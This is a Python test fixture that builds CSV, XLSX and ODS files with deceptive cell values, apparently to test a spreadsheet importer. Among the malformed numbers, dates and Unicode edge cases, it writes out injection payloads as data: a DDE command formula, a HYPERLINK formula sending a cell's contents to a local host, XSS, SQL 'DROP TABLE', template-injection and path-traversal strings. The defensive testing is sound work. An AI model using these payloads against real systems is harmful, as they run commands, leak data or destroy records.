"""Values that are not what they seem, each put into every column (A11-A15, A17-A19)."""

from collections.abc import Iterator
from typing import Any

from tests.spreadsheets.hostile.spoiler import EITHER, TAKEN, Make, Spoiler
from tests.spreadsheets.hostile.template import (
    DAY_STYLE,
    MONTH_STYLE,
    PERCENT_STYLE,
    Raw,
    Row,
    Template,
)

TEXTS: dict[str, dict[str, str]] = {
    "A11": {
        "1,234": "1,234", "1.234,5": "1.234,5", "1 234": "1 234", "1\xa0234": "1\xa0234",
        "£1,200": "£1,200", "12.5%": "12.5%", "(300)": "(300)", "1,23": "1,23", "€5": "€5",
        "ten": "ten", "1.2.3": "1.2.3", "--5": "--5", "5-": "5-", "1/2": "1/2", "'5": "'5",
    },
    "A12": {
        "NaN": "NaN", "Infinity": "Infinity", "-inf": "-inf", "1_000": "1_000",
        "full-width digits": "１２３", "Arabic digits": "١٢٣", "superscript": "²",
        "1e9999999": "1e9999999", "5000 digits": "9" * 5_000, "TRUE": "TRUE", "0x1F": "0x1F",
        "a fraction of 5000 digits": "0." + "1" * 5_000,
    },
    "A13": {
        "US order": "12/31/2026", "two digits": "31/12/26", "no day": "31/02/2026",
        "a month": "May 2026", "in words": "3rd of May", "29 February": "2025-02-29",
        "year 0": "0000-01-01", "year 9999": "9999-12-31", "in another calendar": "令和8年1月1日",
    },
    "A15": {
        "scientific": "1.23E+15", "leading noughts": "00123", "a month's name": "1-Mar",
        "look-alike letters": "АВС", "a UUID": "0195566f-4a00-7000-8000-000000000001",
        "no UUID": "0195566f-4a00-7000-8000-00000000000g",
    },
    "A17": {
        "=": "=1+1", "+": "+44 20 7946 0000", "-": "-5 tonnes", "@": "@SUM(A1)", "tab": "\t=1",
        "DDE": "=cmd|'/C calc'!A0", "full-width =": "＝1+1", "space =": " =1+1",
        "NBSP =": "\xa0=1+1", "lines": "fine\n=1+1\r\n@x",
        "link": '=HYPERLINK("http://127.0.0.1/?"&A1,"x")',
    },
    "A18": {
        "markup": "<script>alert(1)</script>", "SQL": "'; DROP TABLE file_import; --",
        "template": "{{7*7}}${7*7}<%= 7 %>", "log": "x\n2026-01-01 ERROR forged",
        "RTL": "\u202efdp.exe", "percent": "%s%n%x", "braces": "{0.__class__}", "path": "../../x",
        "entity": "&lt;b&gt;&#0;", "quote": "\"',;\\", "null word": "NULL", "none": "None",
    },
    "A19": {
        "U+FFFE": "a\ufffeb", "bell": "a\x07b", "escaped nought": "a_x0000_b",
        "escaped surrogate": "a_xD800_b", "escaped return": "a_x000D_b",
        "escaped twice": "_x005F_x0000_",
        "20000 characters": "x" * 20_000, "2000 marks": "a" + "\u0301" * 2_000,
        "emoji": "👩‍👩‍👧‍👦" * 50, "unseen": "\u200b\u2060\ufeff", "private": "\ue000\U0010fffd",
        "200000 characters": "y" * 200_000,
    },
}  # fmt: skip
#: what XML has no sign for stands in no file that is one
IN_CSV_ALONE = {"bell", "U+FFFE"}


def cell(inside: str, form: str = "", style: int = 0) -> Raw:
    return Raw(f'<c r="{{at}}" s="{style}"{f" t={form!r}" if form else ""}>{inside}</c>')


RAW: dict[str, dict[str, Raw]] = {
    "A12": {
        "number NaN": cell("<v>NaN</v>"), "number INF": cell("<v>INF</v>"),
        "number 1E400": cell("<v>1E400</v>"), "number 1E-400": cell("<v>1E-400</v>"),
        "number of 5000 digits": cell(f"<v>{'9' * 5_000}</v>"), "true": cell("<v>1</v>", "b"),
        "number that is text": cell("<v>ten</v>"), "empty number": cell("<v></v>"),
        "number with a comma": cell("<v>1,5</v>"), "minus nought": cell("<v>-0</v>"),
        "huge": cell("<v>1E+300</v>"), "tiny": cell("<v>0.0000000000000001</v>"),
        "percentage": cell("<v>0.5</v>", style=PERCENT_STYLE),
    },
    "A13": {
        f"serial {serial}": cell(f"<v>{serial}</v>", style=DAY_STYLE)
        for serial in ("0", "1", "60", "61", "-1", "2958465", "2958466", "1E9", "46000.99999", "x")
    } | {
        "a month as a day": cell("<v>46082</v>", style=MONTH_STYLE),
        "ISO day": cell("<v>2026-02-03</v>", "d"), "no ISO day": cell("<v>2026-02-31</v>", "d"),
        "ISO moment": cell("<v>2026-02-03T25:00:00</v>", "d"), "bare serial": cell("<v>46082</v>"),
        "style that is not there": cell("<v>46082</v>", style=999),
    },
    "A14": {
        "formula without a value": cell("<f>SUM(A1:A2)</f>"),
        "formula with an empty value": cell("<f>SUM(A1:A2)</f><v></v>"),
        "formula with a value": cell("<f>1+1</f><v>2</v>"),
        "formula with a text": cell('<f>"a"</f><v>a</v>', "str"),
        "shared formula": cell('<f t="shared" ref="A1:B2" si="0">A1</f>'),
        "outer formula": cell("<f>[1]Sheet1!A1</f><v>7</v>"),
    } | {
        f"error {error}": cell(f"<v>{error}</v>", "e")
        for error in ("#REF!", "#N/A", "#VALUE!", "#DIV/0!", "#NAME?", "#NUM!", "#SPILL!")
    } | {"error as text": cell("<is><t>#REF!</t></is>", "inlineStr"),
         "unknown form": cell("<v>1</v>", "zz")},
    "A19": {
        "nought as a character": cell("<is><t>a&#0;b</t></is>", "inlineStr"),
        "surrogate as a character": cell("<is><t>a&#xD800;b</t></is>", "inlineStr"),
        "a text in parts": cell("<is><r><t>a</t></r><r><t>b</t></r></is>", "inlineStr"),
    },
}  # fmt: skip
#: so long that the file as a whole may be refused
TOO_LONG = {"200000 characters"}
NO_XML = {"nought as a character", "surrogate as a character"}


def each(template: Template, value: Any) -> list[Row]:
    """Give a row for each column, with the value in it."""
    rows = []
    for at in range(template.width):
        row = template.sample
        row[at] = value
        rows.append(row)
    return rows


def in_xlsx(value: Any) -> Make:
    return lambda template, _canary: template.more(*each(template, value)).xlsx()


def in_csv(value: str) -> Make:
    return lambda template, _canary: template.more(*each(template, value)).text().encode()


def in_ods(value: str) -> Make:
    return lambda template, _canary: template.more(*each(template, value)).ods()


def _all() -> Iterator[Spoiler]:
    for case, texts in TEXTS.items():
        for at, (name, text) in enumerate(texts.items()):
            ends = EITHER if name in TOO_LONG else TAKEN
            yield Spoiler(case, f"{name} in CSV", in_csv(text), ends, more=-1)
            if name not in IN_CSV_ALONE:
                yield Spoiler(case, f"{name} in XLSX", in_xlsx(text), ends, more=-1)
            if name not in IN_CSV_ALONE and at % 3 == 0:
                yield Spoiler(case, f"{name} in ODS", in_ods(text), ends, more=-1)
    for case, cells in RAW.items():
        for name, raw in cells.items():
            ends = EITHER if name in NO_XML else TAKEN
            yield Spoiler(case, name, in_xlsx(raw), ends, more=-1)


#: `more` of -1 stands for a row for each column
VALUES = tuple(_all())
